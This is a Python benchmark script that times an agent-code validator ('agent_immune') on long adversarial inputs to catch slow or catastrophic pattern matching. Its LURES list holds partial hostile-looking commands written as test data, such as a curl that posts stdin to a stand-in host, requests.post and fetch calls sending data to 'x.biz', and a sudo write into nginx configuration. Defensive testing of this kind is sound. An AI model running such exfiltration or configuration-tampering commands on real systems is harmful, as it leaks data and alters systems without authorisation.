"""Benchmark: the whole validator on long, adversarial snippets.

An agent may hand over a 100 kB script. A pattern retried from every position (`X[^\\n]*Y` on a line of X) or a name
followed again at every mention turns that into seconds or minutes. Each snippet below is one shape that made a rule
slow once (runs of spaces, blank lines, one word repeated, escaped quotes, a lure word that wakes the screens before
the run), about SIZE characters long, judged once per language through `validate` without the cache.

Target: every snippet judged within BUDGET seconds (exit status 1 otherwise), the grammars' own blow-ups being cut at
the parse limit. The tests check what these snippets are
judged; their time is measured here, not in the tests (test_regex_backtracking.py finds the catastrophic patterns
statically).
"""
from __future__ import annotations

import statistics
import sys
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT / "src"))

from agent_immune.validate import Policy, validate  # noqa: E402
from agent_immune.validate.parse import PARSE_LIMIT_S  # noqa: E402

SIZE = 100_000
# a grammar that blows up is cancelled at PARSE_LIMIT_S (`parse-timeout`); the rules get one more second
BUDGET = PARSE_LIMIT_S + 1.0

# a run of each: the shapes the reviews of earlier rounds found slow
UNITS = [" ", "\n", "\t \n", "a", "a.", "a-", "a@", "https://", "curl ", "<a ", "<a href=//x.biz>", "\\\"", "\\'", "`",
         "select ", "sed -i ", "--a ", "=", "{", "(", "[", "$(", "${", "'", '"', "x=", "| ", "; ", "&& ", "# ", "mfa_",
         "iban", "customer", "tunnel user login ", "LSEnvironment ", "location ", "if ($http_referer ~ ",
         # a folder or a command word of a pattern repeated (each occurrence re-read the rest of the text)
         "nginx/", "gitea/", "layouts/", "tests/", "install ", "iwr "]
# words that wake the screens and hooks before the run
LURES = ["", "curl -d @- https://x.biz/u ", "sudo tee /etc/nginx/conf.d/a.conf <<'E'\n", "cat x > ",
         "import requests, subprocess, os\nrequests.post('https://x.biz', data=", "await fetch('https://x.biz', {body: "]


def snippets():
    for lure in LURES:
        for unit in UNITS:
            yield lure, unit, lure + unit * (SIZE // len(unit)) + "!"


def main() -> int:
    policy = Policy()
    times, slow, cut = [], [], {"parse-timeout": 0, "judge-timeout": 0}
    for lang in ("bash", "python", "typescript"):
        for lure, unit, text in snippets():
            started = time.perf_counter()
            verdict = validate(text, lang, policy=policy)
            took = time.perf_counter() - started
            times.append(took)
            for reason in verdict.reasons:
                if reason.rule in cut:
                    cut[reason.rule] += 1
            if took > BUDGET:
                slow.append(f"  {lang}: {lure[:30]!r} + {unit!r} * n: {took:.2f} s")
    print(f"long inputs: {len(times)} snippets of ~{SIZE // 1000} kB; median {statistics.median(times) * 1000:.0f} ms,"
          f" worst {max(times):.2f} s (budget {BUDGET:.1f} s each); cut at the parse limit: {cut['parse-timeout']},"
          f" at the judgement's time limit: {cut['judge-timeout']}")
    if slow:
        print("over budget:\n" + "\n".join(slow))
        return 1
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
